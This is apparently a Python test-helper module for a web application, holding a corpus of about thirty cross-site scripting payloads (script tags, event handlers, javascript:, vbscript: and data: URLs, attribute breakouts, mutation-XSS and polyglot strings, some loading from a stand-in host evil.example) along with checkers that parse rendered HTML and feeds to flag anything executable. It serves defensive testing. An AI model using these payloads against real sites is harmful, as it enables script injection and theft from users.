"""Hostile input for the tests, and checks that read rendered output as a browser would.

``PAYLOADS`` is our own corpus: each entry a short name and a template whose ``{m}``
becomes a marker naming the payload and the field it went into (``zq07hl``: payload 7,
headline). A payload that got through shows itself by its marker: as an attribute or
element name (an attribute breakout), in a handler, a script or a bad URL.

``html_problems`` parses HTML as browsers do (tests.helpers.html: html5lib, the
HTML5 parsing algorithm) and lists what could run: scripts other than our JSON data
and same-origin files, ``on*`` attributes, ``javascript:``/``vbscript:``/``data:``
URLs, frames, plugins, ``<base>``, refreshes, active SVG or MathML, elements or
attributes named by a marker. ``xml_problems`` does the same for feeds and sitemaps, and for the HTML
they carry. Each returns a list of readable problems: empty means inert.
"""

import json
import re
import xml.etree.ElementTree as ET
from dataclasses import dataclass

from tests.helpers.html import attribute_name, local_name, parse, parse_fragment

__all__ = [
    "PAYLOADS",
    "Payload",
    "html_problems",
    "markers_in",
    "xml_problems",
]


@dataclass(frozen=True)
class Payload:
    name: str
    template: str

    def fill(self, marker: str) -> str:
        return self.template.replace("{m}", marker)


# At most ~95 characters once filled, so that every field takes them whole (topic and
# alias names hold 100). Each one names its marker at least once.
PAYLOADS = [
    Payload("script", "<script>alert('{m}')</script>"),
    Payload("script_src", '<script src="https://evil.example/{m}.js"></script>'),
    Payload("img_onerror", "<img src=x onerror=\"alert('{m}')\">"),
    Payload("svg_onload", "<svg onload=\"alert('{m}')\"><circle r=9 /></svg>"),
    Payload("svg_script", "<svg><script>window.__pwned='{m}'</script></svg>"),
    Payload(
        "svg_animate",
        "<svg><a><animate attributeName=href values=javascript:alert('{m}') />"
        "<text>x</text></a></svg>",
    ),
    Payload("details_toggle", "<details open ontoggle=\"alert('{m}')\">{m}</details>"),
    Payload(
        "iframe_srcdoc", "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>"
    ),
    Payload("iframe_js", "<iframe src=\"javascript:alert('{m}')\"></iframe>"),
    Payload("href_js", "<a href=\"javascript:alert('{m}')\">{m}</a>"),
    Payload("href_entities", "<a href=\"&#106;avascript&colon;alert('{m}')\">{m}</a>"),
    Payload("href_tab", "<a href=\"jav&#x09;ascript:alert('{m}')\">{m}</a>"),
    Payload("href_zero_width", "<a href=\"java\u200dscript:alert('{m}')\">{m}</a>"),
    Payload("href_vbscript", "<a href=\"vbscript:msgbox('{m}')\">{m}</a>"),
    Payload(
        "href_data",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#{m}">'
        "{m}</a>",
    ),
    Payload(
        "img_data_svg", "<img src=\"data:image/svg+xml,<svg onload=alert('{m}')>\">"
    ),
    Payload(
        "object", "<object data=\"javascript:alert('{m}')\"></object><embed src=x>"
    ),
    Payload(
        "formaction", "<form><button formaction=javascript:alert('{m}')>{m}</button>"
    ),
    Payload("attr_double", '" xss{m}="1" onmouseover="alert(\'{m}\')" x="'),
    Payload("attr_single", "' xss{m}='1' onfocus='alert(1)' autofocus='"),
    Payload("tag_break", '"><b xss{m}>{m}</b><img src=x onerror=alert(1)>'),
    Payload("close_script", "</script><script>alert('{m}')</script>"),
    Payload("close_script_odd", "</ScRiPt ><img src=x onerror=alert('{m}')>"),
    Payload("close_title", "</title></textarea><img src=x onerror=alert('{m}')>"),
    Payload("comment", "<!--<script>--><img src=x onerror=alert('{m}')>-->"),
    Payload(
        "noscript_mxss",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    ),
    Payload(
        "style",
        "<style>@import '//evil.example/{m}.css'</style><p style=\"x:expression(1)\">"
        "{m}</p>",
    ),
    Payload(
        "meta_base",
        "<meta http-equiv=refresh content=0;url=//evil.example/{m}><base href=//e.example/>",
    ),
    Payload(
        "mathml", "<math><mi xlink:href=\"javascript:alert('{m}')\">{m}</mi></math>"
    ),
    Payload(
        "polyglot",
        'jaVasCript:/*--></tiTle></stYle></scRipt><svg/oNload=\'+/"/+/alert("{m}")//\'>',
    ),
    Payload(
        "fullwidth", "\uff1cimg src=x onerror=alert('{m}')\uff1e \uff1cscript\uff1e{m}"
    ),
    Payload("bidi", "{m} \u202egnp.exe\u202c \u2066\u05d0\u2069 \u200b\u2028\u2029end"),
    Payload("escaped", "&lt;script&gt;alert('{m}')&lt;/script&gt; &amp;amp; {m}"),
    Payload("template", "{{ request.META }}{% debug %}{m} {{ 7|add:7 }}"),
]

MARKER = re.compile(r"zq\d\d[a-z]{2}")
# Attributes whose value a browser follows as a URL.
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "data",
    "background", "cite", "longdesc", "ping", "manifest", "codebase", "dynsrc",
    "lowsrc", "icon", "profile", "usemap", "itemtype",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
# Script types that are data, never run: JSON-LD, json_script, the editor's import map.
DATA_SCRIPTS = {"application/ld+json", "application/json", "importmap"}
FORBIDDEN_ELEMENTS = {
    "iframe", "frame", "frameset", "object", "embed", "applet", "base", "portal",
    "math", "param", "xss",
}  # fmt: skip
# What our own inline icons (embeds/icons.py) and the admin's theme icons draw with;
# ``use`` only pointing into the page (checked below).
SVG_ELEMENTS = {
    "svg", "path", "rect", "circle", "ellipse", "line", "polyline", "polygon", "g",
    "symbol", "use",
}  # fmt: skip
# C0 controls and space at the ends, tab and newlines anywhere: what browsers drop
# from a URL before they read its scheme.
_URL_JUNK = re.compile(r"[\t\n\r]")


def url_scheme_is_bad(value: str) -> bool:
    """Whether a browser would follow ``value`` as a script or data URL."""
    cleaned = _URL_JUNK.sub("", value).strip("".join(map(chr, range(0x21))))
    return cleaned.lower().startswith(BAD_SCHEMES)


def _snippet(element) -> str:
    attrs = " ".join(f"{attribute_name(k)}={v!r}" for k, v in element.attrib.items())
    return f"<{local_name(element.tag)} {attrs}>"[:200]


def _script_problem(element, attrs: dict) -> str | None:
    kind = attrs.get("type", "").strip().lower()
    text = element.text or ""
    if "src" in attrs:
        source = attrs["src"]
        if text.strip() or not source.startswith(("/static/", "/admin/jsi18n/")):
            return "script from elsewhere: " + _snippet(element)
        return None
    if kind not in DATA_SCRIPTS:
        return f"inline script: {text[:120]!r}"
    if "<" in text:
        return f"unescaped '<' in a {kind} script: {text[:120]!r}"
    try:
        json.loads(text)
    except ValueError:
        return f"{kind} script that is not JSON: {text[:120]!r}"
    return None


def html_problems(
    html: str, *, fragment: bool = False, allowed_data_urls=("data:,",)
) -> list[str]:
    """What in ``html`` could run or load hostile content, as readable lines.

    ``allowed_data_urls`` are the data: URLs our own templates emit (the empty
    favicon). With ``fragment`` the HTML is read as a fragment (a feed item's
    content).
    """
    root = parse_fragment(html) if fragment else parse(html)
    problems = []
    for element in root.iter():
        if not isinstance(element.tag, str):
            continue  # comments
        tag = local_name(element.tag)
        attrs = {attribute_name(k): v for k, v in element.attrib.items()}
        if MARKER.search(tag) or tag.startswith("xss"):
            problems.append(f"element named by a payload: {_snippet(element)}")
        if tag in FORBIDDEN_ELEMENTS:
            problems.append(f"forbidden element: {_snippet(element)}")
        if tag == "script" and (problem := _script_problem(element, attrs)):
            problems.append(problem)
        if tag == "meta" and attrs.get("http-equiv", "").lower() == "refresh":
            problems.append(f"meta refresh: {_snippet(element)}")
        if tag == "svg":
            for inner in element.iter():
                if not isinstance(inner.tag, str):
                    continue
                name = local_name(inner.tag)
                outside = name == "use" and not all(
                    value.startswith("#")
                    for key, value in inner.attrib.items()
                    if attribute_name(key) in {"href", "xlink:href"}
                )
                if name not in SVG_ELEMENTS or outside:
                    problems.append(f"active SVG content: {_snippet(inner)}")
        if tag == "style" and MARKER.search(element.text or ""):
            problems.append(f"style element from a payload: {element.text[:120]!r}")
        for name, value in attrs.items():
            if MARKER.search(name) or name.startswith("xss"):
                problems.append(f"attribute named by a payload: {_snippet(element)}")
            if name.startswith("on"):
                problems.append(f"event handler: {_snippet(element)}")
            if name == "srcdoc":
                problems.append(f"srcdoc: {_snippet(element)}")
            if name == "style" and re.search(r"expression|url\(|@import", value, re.I):
                problems.append(f"active style: {_snippet(element)}")
            urls = [value]
            if name in {"srcset", "imagesrcset"}:
                urls = [part.strip().split(" ")[0] for part in value.split(",")]
            elif name not in URL_ATTRIBUTES:
                continue
            for url in urls:
                if url_scheme_is_bad(url) and url not in allowed_data_urls:
                    problems.append(
                        f"{name} with a script or data URL: {_snippet(element)}"
                    )
    return problems


def markers_in(text: str) -> set[str]:
    """The payload markers present in ``text``."""
    return set(MARKER.findall(text))


# Elements of feeds whose text feed readers show as HTML.
_HTML_ELEMENTS = {
    "description",
    "{http://purl.org/rss/1.0/modules/content/}encoded",
}
_ATOM = "{http://www.w3.org/2005/Atom}"


def xml_problems(text: str) -> list[str]:
    """What in a feed or sitemap is malformed, or could run in a reader.

    The document must be well-formed XML. HTML in RSS ``description`` and
    ``content:encoded``, and Atom ``summary``/``content``/``title`` of type html,
    must pass :func:`html_problems`; every URL in an element or ``href``/``url``
    attribute must be http(s) (or a tag: id); no element or attribute may be named
    by a payload.
    """
    try:
        root = ET.fromstring(text.encode())  # noqa: S314 (our own output)
    except ET.ParseError as error:
        return [f"not well-formed XML: {error}"]
    problems = []
    for element in root.iter():
        if MARKER.search(element.tag):
            problems.append(f"XML element named by a payload: {element.tag}")
        for name, value in element.attrib.items():
            if MARKER.search(name):
                problems.append(f"XML attribute named by a payload: {name}")
            if name in {"href", "url", "src"} and not _web_or_tag(value):
                problems.append(f"{element.tag} {name}={value!r}")
        content = element.text or ""
        is_html = element.tag in _HTML_ELEMENTS or (
            element.tag.startswith(_ATOM) and element.get("type") in {"html", "xhtml"}
        )
        if is_html and content:
            problems += [
                f"{element.tag}: {p}" for p in html_problems(content, fragment=True)
            ]
        is_address = element.tag in {"guid", f"{_ATOM}id"} or element.tag.rsplit(
            "}", 1
        )[-1] in {"link", "loc", "comments", "uri"}
        if is_address and content.strip() and not _web_or_tag(content.strip()):
            problems.append(f"{element.tag} is not a web address: {content!r}")
    return problems


def _web_or_tag(value: str) -> bool:
    return value.startswith(("http://", "https://", "tag:"))
